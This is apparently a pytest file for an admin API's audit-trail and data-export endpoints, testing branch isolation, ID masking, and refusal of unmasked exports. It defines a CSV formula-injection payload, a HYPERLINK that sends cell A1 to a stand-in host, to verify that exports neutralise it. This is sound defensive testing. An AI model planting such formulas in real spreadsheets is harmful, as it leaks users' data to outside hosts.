"""The administration API's audit trails (`/v1/admin/audit`) and exports
(`/v1/admin/exports/{what}.{fmt}`) on SQLite and PostgreSQL: the branch wall, the two trails
in one list with a laptop's broken chain flagged, paging; exports masked unless an admin asks
(a supervisor asking is refused and nothing is written), audited with the row count,
formula-safe in CSV and XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from typing import Any

import openpyxl
import pytest
from records_support import days, trail, two_branches
from srv_support import Laptop, World, business_fields, enrollment_fields, op
from test_audit_events import chain

AUDIT = "/v1/admin/audit"
EXPORTS = "/v1/admin/exports"
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
GAP_WARNING = r"^server: audit chain of device [0-9a-f-]+: gap at seq 3"


def enroll(laptop: Laptop, i: int, **overrides: Any) -> str:
    entity_id = str(uuid.uuid4())
    result = laptop.push_one(
        op("enrollment", "create", entity_id, enrollment_fields(i, **overrides))
    )
    assert result["status"] == "applied", result
    return entity_id


@pytest.mark.expect_warning_log(GAP_WARNING)
def test_the_audit_lists_both_trails_of_the_branch_with_chain_breaks_flagged(
    world: World,
) -> None:
    people = two_branches(world)
    a1, b1 = people["A1"], people["B1"]
    first, _deleted, third = chain(3)
    a1.push(first, third)  # the second event was deleted on the laptop
    b1.push(*chain(2, agent_code="B1"))
    s1, s2 = people["S1"].headers, people["S2"].headers
    world.client.post(
        "/v1/admin/events",
        json={"name": "Booth", "starts_on": days(0, 1)[0], "ends_on": days(0, 1)[1]},
        headers=s2,
    )
    page = world.client.get(AUDIT, headers=s1).json()
    laptop = [i for i in page["items"] if i["source"] == "laptop"]
    assert {i["device_id"] for i in laptop} == {a1.device_id}
    assert [(i["seq"], i["chain_ok"], i["chain_problem"]) for i in laptop] == [
        (3, False, "gap"),
        (1, True, None),
    ]
    assert page["chain_breaks"] == [
        {"device_id": a1.device_id, "breaks": 1, "latest": laptop[0]["at"]}
    ]
    # The trail rows about PLG (its creation, its people), none about LLG.
    about = {(i["action"], i["target"]) for i in page["items"] if i["source"] == "server"}
    assert about == {("create-branch", "PLG")} | {
        ("create-agent", code) for code in ("A1", "A2", "S1", "N1")
    }
    # LLG's supervisor sees their laptop and their own administration, not PLG's.
    # An admin of PLG exporting LLG's data is LLG's business, not PLG's.
    n1 = people["N1"].headers
    assert world.client.get(f"{EXPORTS}/visits.csv?branch=LLG", headers=n1).status_code == 200
    assert "export" not in {
        i["action"] for i in world.client.get(AUDIT, headers=s1).json()["items"]
    }
    theirs = world.client.get(AUDIT, headers=s2).json()
    assert {i["device_id"] for i in theirs["items"] if i["source"] == "laptop"} == {b1.device_id}
    theirs_about = {(i["action"], i["target"]) for i in theirs["items"] if i["source"] == "server"}
    assert {("create-branch", "LLG"), ("create-agent", "B1")} < theirs_about
    assert {"create-event", "export"} <= {action for action, _ in theirs_about}
    assert not {target for _, target in theirs_about} & {"PLG", "A1", "S1"}
    assert theirs["chain_breaks"] == []
    # Filters: only breaks; by agent; by trail; newest first across both; paged.
    gaps = world.client.get(AUDIT, params={"gaps": "true"}, headers=s1).json()["items"]
    assert [i["seq"] for i in gaps] == [3]
    everything = world.client.get(AUDIT, params={"limit": 200}, headers=n1).json()["items"]
    moments = [dt.datetime.fromisoformat(i["at"]) for i in everything]
    assert moments == sorted(moments, reverse=True)
    by_b1 = world.client.get(AUDIT, params={"agent": "B1", "source": "laptop"}, headers=n1)
    assert {i["actor"] for i in by_b1.json()["items"]} == {"B1"}
    seen, cursor = [], None
    while True:
        params: dict[str, Any] = {"limit": 2, **({"cursor": cursor} if cursor else {})}
        answer = world.client.get(AUDIT, params=params, headers=n1).json()
        seen += [(i["source"], i["id"]) for i in answer["items"]]
        cursor = answer["next_cursor"]
        if cursor is None:
            break
    assert seen == [(i["source"], i["id"]) for i in everything]
    bad = world.client.get(AUDIT, params={"cursor": "nonsense"}, headers=n1)
    assert bad.status_code == 422 and bad.json()["error"]["field"] == "cursor"
    assert world.client.get(AUDIT, headers=a1.headers).status_code == 403


def _csv(answer: Any) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))


def test_exports_are_masked_audited_and_formula_safe(world: World) -> None:
    people = two_branches(world)
    a1 = people["A1"]
    nik = enrollment_fields(1)["nik"]
    enrollment = enroll(a1, 1, full_name=FORMULA)
    enroll(people["B1"], 2)
    business = str(uuid.uuid4())
    a1.push_one(op("business", "create", business, business_fields(name=FORMULA)))
    s1 = people["S1"].headers
    rows = _csv(world.client.get(f"{EXPORTS}/enrollments.csv", headers=s1))
    header, line = rows[0], rows[1]
    assert len(rows) == 2  # PLG's only
    record = dict(zip(header, line, strict=True))
    assert record["ID"] == enrollment and record["NIK"] == nik[:4] + "*" * 8 + nik[-4:]
    assert nik not in "".join(line) and record["Nama lengkap"] != FORMULA
    assert not any(cell.startswith(("=", "+", "@")) for cell in line)
    businesses = _csv(world.client.get(f"{EXPORTS}/businesses.csv", headers=s1))
    assert dict(zip(businesses[0], businesses[1], strict=True))["Nama usaha"] == "'" + FORMULA
    done = trail(world, "export", "businesses")
    assert [(r.operator, r.details["rows"], r.details["masked"]) for r in done] == [("S1", 1, True)]
    # XLSX: the same neutralised text, no formula cell.
    xlsx = world.client.get(f"{EXPORTS}/businesses.xlsx", headers=s1)
    assert xlsx.status_code == 200 and xlsx.headers["content-type"].startswith(
        "application/vnd.openxmlformats"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in cells]
    # A supervisor asking for the data unmasked is refused, and nothing is recorded.
    refused = world.client.get(
        f"{EXPORTS}/enrollments.csv", params={"unmasked": "true"}, headers=s1
    )
    assert refused.status_code == 422 and refused.json()["error"]["field"] == "unmasked"
    assert len(trail(world, "export", "enrollments")) == 1
    # An admin may: the whole NIK, and the trail says so.
    n1 = people["N1"].headers
    whole = _csv(
        world.client.get(
            f"{EXPORTS}/enrollments.csv", params={"unmasked": "true", "branch": "PLG"}, headers=n1
        )
    )
    assert nik in whole[1]
    last = trail(world, "export", "enrollments")[-1]
    assert (last.operator, last.details["masked"], last.details["branch"]) == ("N1", False, "PLG")
    # Another branch by name is no branch of theirs; a bad kind, format or day is 422; agents 403.
    other = world.client.get(f"{EXPORTS}/enrollments.csv", params={"branch": "LLG"}, headers=s1)
    assert other.status_code == 422 and other.json()["error"]["field"] == "branch"
    assert len(trail(world, "export", "enrollments")) == 2  # nothing more recorded
    for url, field in (
        (f"{EXPORTS}/people.csv", "what"),
        (f"{EXPORTS}/visits.pdf", "format"),
        (f"{EXPORTS}/visits.csv?from=2026-12-05&to=2026-12-01", "to"),
    ):
        answer = world.client.get(url, headers=s1)
        assert answer.status_code == 422 and answer.json()["error"]["field"] == field, url
    assert world.client.get(f"{EXPORTS}/visits.csv", headers=a1.headers).status_code == 403


def test_a_visit_export_names_its_business(world: World) -> None:
    people = two_branches(world)
    a1 = people["A1"]
    business = str(uuid.uuid4())
    a1.push_one(op("business", "create", business, business_fields(name="Pempek Vico")))
    visit_fields = {
        "business_id": business,
        "visited_at": "2026-12-01T09:00:00+07:00",
        "channel": "booth",
        "outcome": "interested",
    }
    assert a1.push_one(op("visit", "create", fields=visit_fields))["status"] == "applied"
    rows = _csv(world.client.get(f"{EXPORTS}/visits.csv", headers=people["S1"].headers))
    line = dict(zip(rows[0], rows[1], strict=True))
    assert line["Nama usaha"] == "Pempek Vico" and line["ID usaha"] == business
